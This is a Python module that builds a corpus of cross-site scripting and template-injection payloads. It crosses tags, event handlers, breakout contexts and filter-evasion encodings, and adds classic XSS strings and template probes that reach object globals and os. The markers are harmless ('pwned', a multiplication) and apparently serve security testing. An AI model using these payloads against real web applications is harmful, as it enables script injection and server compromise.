"""Words that want to be more than words: tags by attributes by encodings by contexts, and templates of many engines.

Whatever they do where they are taken for more leaves the mark `pwned`: an element, a title, a dialog, a line of the
console; a template that is reckoned leaves PRODUCT.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Callable

FACTORS, PRODUCT = "1337*7331", "9801547"
RUNS = "document.title='pwned'"

TAGS = (
    "img",
    "svg",
    "body",
    "iframe",
    "video",
    "audio",
    "details",
    "input",
    "math",
    "marquee",
    "object",
    "a",
    "x-pwned",
    "style",
    "form",
)
HANDLERS = (
    "onerror",
    "onload",
    "ontoggle open",
    "onfocus autofocus",
    "onmouseover",
    "onbegin",
    "onanimationstart",
    "onstart",
    "onpageshow",
)
CONTEXTS = (
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "</style>{}",
    "-->{}",
    "]]>{}",
    "</option></select>{}",
    "&lt;{}",
    "</td></table>{}",
    "`{}",
    "<!--><!-->{}",
)
ENCODINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.upper().replace("DOCUMENT.TITLE='PWNED'", RUNS),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;").replace(">", "&#x3e;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("=", "&#61;"),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace(">", ""),
)
CLASSIC = (
    f"<script>{RUNS}</script>",
    f"<ScRiPt>{RUNS}</sCrIpT>",
    f"<script/x>{RUNS}</script>",
    "<script>console.log('pwned')</script>",
    "<script>alert('pwned')</script>",
    f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    "<script src=//127.0.0.1:9/pwned.js></script>",
    f"javascript:{RUNS}",
    f"<a href=javascript:{RUNS}>x</a>",
    f"<a href='java&#x09;script:{RUNS}'>x</a>",
    "<iframe srcdoc='<script>top.document.title=1</script>'></iframe>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    "<meta http-equiv=refresh content='0;url=//127.0.0.1:9/'>",
    "<base href=//127.0.0.1:9/>",
    "<link rel=stylesheet href=//127.0.0.1:9/pwned.css>",
    "<style>@import '//127.0.0.1:9/pwned.css'</style>",
    "<form action=//127.0.0.1:9/><button>x</button></form>",
    "<x-pwned>",
    "<template><x-pwned></template>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUNS}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    f"'-{RUNS}-'",
    f"\\'-{RUNS}//",
    f"</script><svg onload={RUNS}>",
    f"';{RUNS};//",
    f"${{{RUNS}}}",
    f"{{{{constructor.constructor('{RUNS}')()}}}}",
)
TEMPLATES = (
    "{{%s}}",
    "{{ %s }}",
    "{%% print(%s) %%}",
    "{%% if %s %%}x-pwned{%% endif %%}",
    "{{'%s'|safe}}",
    "{{%s|string}}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "{%s}",
    "*{%s}",
    "@(%s)",
    "[[${%s}]]",
    "{{=%s}}",
    "{#%s#}",
    "%%(%s)s",
    "{0.%s}",
    "$(%s)",
    "`%s`",
    "{php}echo %s{/php}",
    "#set($x=%s)$x",
    "{{config}}{{%s}}",
    "{{self.__init__.__globals__}}{{%s}}",
    "{{''.__class__.__mro__}}{{%s}}",
    "{{request.application}}{{%s}}",
    "{%% for x in [1] %%}{{%s}}{%% endfor %%}",
    "{{ cycler.__init__.__globals__.os }}{{%s}}",
    "{{lipsum.__globals__}}{{%s}}",
    "# for x\n{{%s}}",
)


def strings(many: int, seed: int = 1) -> list[str]:
    """So many different ones; the classic ones and the templates are always among them."""
    found = dict.fromkeys([*CLASSIC, *(each % FACTORS for each in TEMPLATES)])
    crossed = list(itertools.product(TAGS, HANDLERS, CONTEXTS, ENCODINGS))
    random.Random(seed).shuffle(crossed)
    for tag, handler, context, encoding in crossed:
        if len(found) >= max(many, len(CLASSIC) + len(TEMPLATES)):
            break
        name, *more = handler.split()
        found[context.format(encoding(f"<{tag} src=x {' '.join(more)} {name}={RUNS}>"))] = None
    return random.Random(seed).sample(list(found), many)
